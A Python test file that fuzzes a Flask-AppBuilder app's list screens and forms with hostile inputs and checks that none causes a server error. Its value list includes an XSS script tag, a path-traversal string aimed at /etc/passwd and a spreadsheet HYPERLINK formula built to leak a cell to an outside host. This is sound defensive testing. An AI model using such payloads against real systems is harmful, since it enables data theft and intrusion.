"""The screens never answer 5xx, whatever a client sends (docs/security.md, "Malformed input").

``tests/test_api_fuzz.py`` fuzzes the REST API from its OpenAPI spec; the screens have no spec, so
this is their half. As the system administrator (who sees every screen), over a province with data:

* every list screen (every FAB ``ModelView`` of the app) gets each of its list arguments —
  ``_oc_<View>``, ``_od_<View>``, ``psize_<View>``, ``page_<View>`` and ``_flt_<n>_<column>`` for each
  column it filters on, ``n`` its first filter and one past its last — with hostile values;
* every form found on the screens (every screen without an id in its address, and one page of each
  screen reached from them with an id) is sent back, GET or POST, with each field holding a hostile
  value.

The values are taken in turn from :data:`HOSTILE`, a few per argument, so the run is bounded (a few
hundred requests, well under a minute) and the same on every run. A 400 or 422 is the right answer
to most of them; the test asks only that none is a server error, and names every one that is.
"""
from __future__ import annotations

import itertools
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

from flask_appbuilder import ModelView

from tests import factories
from tests.conftest import login

HOSTILE = [
    "x", "-1", "100000000000000000000", "a\x00b", "((((((((((", "'\\'", "%", "1e400", "😀",
    '=HYPERLINK("http://x/?d="&C2,"Xem")', "<script>alert(1)</script>", "", "x" * 5000, "../../etc/passwd",
    "99999-12-31", "y", "0", "unit.name", "__class__", " ",
]
VALUES_PER_ARGUMENT = 2
VALUES_PER_FORM = 3
#: Forms and links that would end the fuzzing session or change who may log in; the other tests cover them.
SKIP = re.compile(r"/(logout|signout|lang|login|delete|lock|close|reset|handover|toggle|resetmypassword|resetpassword"
                  r"|userinfoeditview|password|action|action_post|back|health)\b")


def _hostile():
    """The hostile values in turn, forever: each argument gets the next few."""
    return itertools.cycle(HOSTILE)


class _Page(HTMLParser):
    """The links and forms of a page: ``links`` hrefs, ``forms`` ``(method, action, {name: value})``."""

    def __init__(self):
        super().__init__()
        self.links: list[str] = []
        self.forms: list[tuple[str, str, dict]] = []
        self._form = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "a" and a.get("href"):
            self.links.append(a["href"])
        elif tag == "form":
            self._form = ((a.get("method") or "get").lower(), a.get("action") or "", {})
            self.forms.append(self._form)
        elif tag in ("input", "select", "textarea") and self._form is not None and a.get("name"):
            if a.get("type") not in ("submit", "button", "file", "image"):
                self._form[2][a["name"]] = a.get("value") or ""

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None


def _parse(html: str) -> _Page:
    page = _Page()
    page.feed(html)
    return page


def _screens(app) -> list[str]:
    """Every GET screen without an argument in its address (not the API, not static files)."""
    out = []
    for rule in app.url_map.iter_rules():
        if ("GET" in rule.methods and not rule.arguments and not rule.rule.startswith(("/api/", "/static", "/swagger"))
                and "static" not in rule.endpoint and not SKIP.search(rule.rule)):
            out.append(rule.rule)
    return sorted(out)


def _list_arguments(view: ModelView) -> list[str]:
    name = type(view).__name__
    arguments = [f"_oc_{name}", f"_od_{name}", f"psize_{name}", f"page_{name}"]
    for column, filters in view._filters.get_search_filters().items():
        arguments += [f"_flt_0_{column}", f"_flt_{min(len(filters), 9)}_{column}"]
    return arguments


def _world(app):
    with app.app_context():
        one_time, reports = factories.cao_bang_reports()
    return reports


def test_no_list_argument_of_any_screen_is_a_server_error(app, admin):
    _world(app)
    client = app.test_client()
    login(client, "admin", admin["password"])
    values, tried, errors = _hostile(), 0, []
    lists = {rule.endpoint.split(".")[0] for rule in app.url_map.iter_rules() if rule.endpoint.endswith(".list")}
    views = [v for v in app.appbuilder.baseviews if isinstance(v, ModelView) and type(v).__name__ in lists]
    assert len(views) > 20  # every list screen of the app, FAB's own included
    for view in views:
        url = f"{view.route_base}/list/"
        for argument in _list_arguments(view):
            for value in itertools.islice(values, VALUES_PER_ARGUMENT):
                extra = {f"_od_{type(view).__name__}": "asc"} if argument.startswith("_oc_") else {}
                response = client.get(url, query_string={argument: value, **extra})
                tried += 1
                if response.status_code >= 500:
                    errors.append(f"GET {url}?{argument}={value[:30]!r} -> {response.status_code}")
    print(f"\nscreen list arguments: {len(views)} list screens, {tried} requests, {len(errors)} server errors")
    assert errors == [], "\n".join(errors[:30])


def _crawl(client, app) -> dict:
    """The forms of every screen and of one page per screen reached with an id: ``{(method, endpoint): form}``."""
    adapter = app.url_map.bind("localhost")
    seen_endpoints, forms, queue = set(), {}, list(_screens(app))
    first_level = set(queue)
    while queue:
        url = queue.pop(0)
        response = client.get(url)
        assert response.status_code < 500, f"GET {url} -> {response.status_code}"
        if response.status_code != 200 or "html" not in (response.content_type or ""):
            continue
        page = _parse(response.get_data(as_text=True))
        for method, action, fields in page.forms:
            target = urlsplit(action).path or urlsplit(url).path
            try:
                endpoint, _args = adapter.match(target, method="POST" if method == "post" else "GET")
            except Exception:  # noqa: BLE001 (a form posting elsewhere, or a method the route refuses)
                continue
            if not SKIP.search(target):
                forms.setdefault((method, endpoint), (target, fields))
        if url not in first_level:
            continue
        for href in page.links:
            parts = urlsplit(href)
            if parts.netloc or not parts.path.startswith("/") or SKIP.search(parts.path):
                continue
            try:
                endpoint, args = adapter.match(parts.path, method="GET")
            except Exception:  # noqa: BLE001
                continue
            if args and endpoint not in seen_endpoints and not parts.path.startswith("/api/"):
                seen_endpoints.add(endpoint)
                queue.append(href)
    return forms


def test_no_form_of_any_screen_is_a_server_error(app, admin):
    _world(app)
    client = app.test_client()
    login(client, "admin", admin["password"])
    forms = _crawl(client, app)
    assert len(forms) > 20
    values, tried, errors = _hostile(), 0, []
    for (method, endpoint), (target, fields) in sorted(forms.items()):
        for value in itertools.islice(values, VALUES_PER_FORM):
            data = {name: (default if name == "csrf_token" else value) for name, default in fields.items()}
            if method == "post":
                response = client.post(target, data=data)
            else:
                response = client.get(target, query_string=data)
            tried += 1
            if response.status_code >= 500:
                errors.append(f"{method.upper()} {target} ({endpoint}) with {value[:30]!r} -> {response.status_code}")
    print(f"\nscreen forms: {len(forms)} forms, {tried} requests, {len(errors)} server errors")
    assert errors == [], "\n".join(errors[:30])
